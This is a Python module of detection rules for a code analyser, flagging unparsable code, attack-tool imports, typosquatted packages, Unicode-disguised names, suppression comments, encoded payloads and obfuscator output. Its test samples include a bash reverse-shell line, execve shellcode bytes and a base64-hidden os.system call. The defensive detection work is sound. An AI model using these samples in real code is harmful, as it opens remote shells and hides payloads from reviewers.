"""Rules about reading itself: code that does not parse, imports, disguises, the list of what is allowed."""

from __future__ import annotations

from engine.analysis.python.rules.make import python_rule
from engine.models import Confidence, Level

SYNTAX = python_rule(
    "py-syntax",
    "The code does not parse",
    "unreadable",
    Level.HIGH,
    attack="Hides behind a syntax that this analyser does not know but another interpreter runs.",
    why="HIGH: what does not parse was read as far as possible only.",
    fix="Send code that Python 3.11 parses.",
    match=("print('a'", "def f(:\n    pass", "x = \x00"),
    not_match=("print('a')",),
    cwe=1286,
)
TOKENS = python_rule(
    "py-unparsed-name",
    "A dangerous name stands in code that does not parse",
    "exec_eval",
    Level.MEDIUM,
    attack="The same as in code that parses.",
    why="MEDIUM: read from words, not from the meaning.",
    fix="Send code that parses.",
    match=("eval(x) +", "import os\nos.system('ls'"),
    not_match=("print(x",),
    confidence=Confidence.LOW,
    cwe=1286,
)
IMPORT = python_rule(
    "py-import",
    "A module of consequence is imported",
    "import",
    Level.LOW,
    attack="First step to files, processes, the network or the interpreter.",
    why="LOW: importing alone does nothing.",
    fix="Leave out what the purpose does not need.",
    match=("import os", "from subprocess import run"),
    not_match=("import math", "from . import os"),
)
ATTACK_IMPORT = python_rule(
    "py-attack-module",
    "A module made for attacks or disguise is imported",
    "malware",
    Level.MEDIUM,
    attack="Packet forging, key logging, obfuscated code, remote control.",
    why="MEDIUM: testers use them too.",
    fix="Remove it.",
    match=("from scapy.all import *", "from pyarmor_runtime_000000 import __pyarmor__", "import pynput"),
    not_match=("import scipy",),
    cwe=506,
)
IMPERSONATION = python_rule(
    "py-package-lookalike",
    "A module's name looks like a popular one",
    "supply_chain",
    Level.MEDIUM,
    attack="Waits under a mistyped name for somebody to install it.",
    why="MEDIUM: one letter from a popular package, and no known package itself.",
    fix="Import the package that was meant.",
    match=("import reqeusts", "import numpyy"),
    not_match=("import requests", "import mymodule"),
    cwe=1357,
    owasp="LLM03",
)
DISGUISED = python_rule(
    "py-disguised-name",
    "A name is written in characters that only look different",
    "obfuscation",
    Level.HIGH,
    attack="Writes `eval` in letters that a search does not find; Python folds them (NFKC).",
    why="HIGH: the name is one of Python's own.",
    fix="Use plain letters.",
    match=("\U0001d452val('1')", "import os\nos.\uff53ystem('ls')"),
    not_match=("h\xf6he = 1", "eval = 1"),
    cwe=1007,
)
SUPPRESSION = python_rule(
    "py-suppression",
    "A comment asks analysers to be silent",
    "unreadable",
    Level.LOW,
    attack="Asks tools to look away from the line.",
    why="LOW: shown, and not obeyed.",
    fix="Remove the comment.",
    match=("import os\nos.system('ls')  # nosec", "x = 1  # noqa: S102"),
    not_match=("x = 1  # no second try",),
)
PAYLOAD = python_rule(
    "py-payload",
    "A text holds encoded code or machine code",
    "obfuscation",
    Level.MEDIUM,
    attack="Carries a payload past the reader.",
    why="MEDIUM: nothing here shows that it runs; CRITICAL where it does.",
    fix="Send the decoded content.",
    match=(
        "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='",
        r"x = b'\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80'",
    ),
    not_match=("x = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0'", "x = b'\\x89PNG\\r\\n'"),
    cwe=506,
)
ATTACK_TEXT = python_rule(
    "py-attack-text",
    "A text belongs to an attack",
    "malware",
    Level.MEDIUM,
    attack="Names a collector's address, a tool or a command of an attack.",
    why="MEDIUM: only a text; the use of it has violations of its own.",
    fix="Remove it.",
    match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
    not_match=("x = 'ssh'",),
    cwe=506,
)
OBFUSCATOR = python_rule(
    "py-obfuscator",
    "The code looks like the output of an obfuscator",
    "obfuscation",
    Level.MEDIUM,
    attack="Makes the code unreadable, so that nobody reads it.",
    why="MEDIUM: names such as these are not made by people.",
    fix="Send the original code.",
    match=("__obfuscator__ = 'x'", "O0O0O0O0O = 1", "_____ = 1"),
    not_match=("O = 0", "_ = 1", "__ = 2"),
    confidence=Confidence.MEDIUM,
    cwe=506,
)
MODULE_NOT_ALLOWED = python_rule(
    "py-module-not-allowed",
    "A module is not on the list",
    "allowlist",
    Level.HIGH,
    attack="Whatever the module can do.",
    why="HIGH: the profile `allow` lets only listed modules pass.",
    fix="Use a listed module, or add it to `analysis.allowed_modules`.",
    match=("import os", "from subprocess import run"),
    not_match=("import math", "import numpy as np"),
)
NAME_NOT_ALLOWED = python_rule(
    "py-name-not-allowed",
    "A built-in or inner name is not on the list",
    "allowlist",
    Level.HIGH,
    attack="Leaves the list of allowed modules by way of the interpreter.",
    why="HIGH: the profile `allow` refuses these built-ins and any `__name__` of a module.",
    fix="Do without.",
    match=("eval('1')", "import math\nmath.__loader__", "open('a')"),
    not_match=("print(len('a'))", "class A:\n    def __init__(self): pass"),
)

RULES = (
    SYNTAX,
    TOKENS,
    IMPORT,
    ATTACK_IMPORT,
    IMPERSONATION,
    DISGUISED,
    SUPPRESSION,
    PAYLOAD,
    ATTACK_TEXT,
    OBFUSCATOR,
    MODULE_NOT_ALLOWED,
    NAME_NOT_ALLOWED,
)
